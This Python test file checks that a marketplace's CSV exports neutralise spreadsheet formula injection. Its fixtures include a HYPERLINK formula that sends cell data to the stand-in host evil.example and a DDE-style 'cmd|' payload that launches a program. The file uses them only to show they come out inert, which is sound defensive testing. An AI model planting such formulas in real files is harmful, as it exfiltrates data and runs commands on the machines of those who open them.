"""Every CSV export is safe to open in a spreadsheet: text that would start a formula is shown as typed."""
import csv
import io

from consignment import services as gerai
from consignment.services import LineRequest
from marketplace.timeutil import local_today
from marketplace.views import csv_download
from settlement import services as settlement

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def _no_live_formula(rows) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not (cell.startswith("-") and not cell.lstrip("-").isdigit()), cell


def test_product_member_bank_and_reference_formulas_are_not_live_in_any_export(client, login_as, make_user, make_member,
                                                                            make_product, make_lot):
    member = make_member(business_name="@SUM(1+1)*cmd|' /C calc'!A0", bank_account_number="0812")
    product = make_product(member=member, name=EVIL)
    kasir, pengurus = make_user("kasir"), make_user("pengurus")
    lot = make_lot(product=product, quantity=5, kasir=kasir)
    gerai.record_counter_sale(kasir, [LineRequest(lot.id, 2)], "cash")
    period = settlement.close_period(pengurus, settlement.open_period(pengurus, local_today()).id)
    settlement.mark_paid(pengurus, period.payouts[0].id, "bank_transfer", "+62-BRI-7781")

    login_as("pengurus")
    today = local_today().isoformat()
    exports = {
        "sales by product": client.get(f"/gerai/laporan/penjualan?format=csv&per=product&dari={today}&sampai={today}"),
        "sales by member": client.get(f"/gerai/laporan/penjualan?format=csv&per=member&dari={today}&sampai={today}"),
        "stock": client.get("/gerai/laporan/stok?format=csv"),
        "payouts": client.get(f"/penyelesaian/{period.id}/pembayaran.csv"),
    }
    cells = {name: _cells(response) for name, response in exports.items()}
    for rows in cells.values():
        _no_live_formula(rows)
    assert ["'" + EVIL] == [row[1] for row in cells["sales by product"][1:]]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells["stock"][1]
    payout_row = cells["payouts"][1]
    assert payout_row[1].startswith("'@SUM") and payout_row[-1] == "'+62-BRI-7781"
    assert payout_row[5] == "30000"  # amounts are still plain numbers


def test_negative_amounts_stay_numbers_but_text_starting_with_minus_is_neutralised(app):
    with app.test_request_context():
        response = csv_download("x.csv", ["a", "b", "c"], [[-5000, "-5000+A1", "\tTAB"], [0, "\rCR", "biasa"]])
    assert _cells(response) == [["a", "b", "c"], ["-5000", "'-5000+A1", "'\tTAB"], ["0", "'\rCR", "biasa"]]
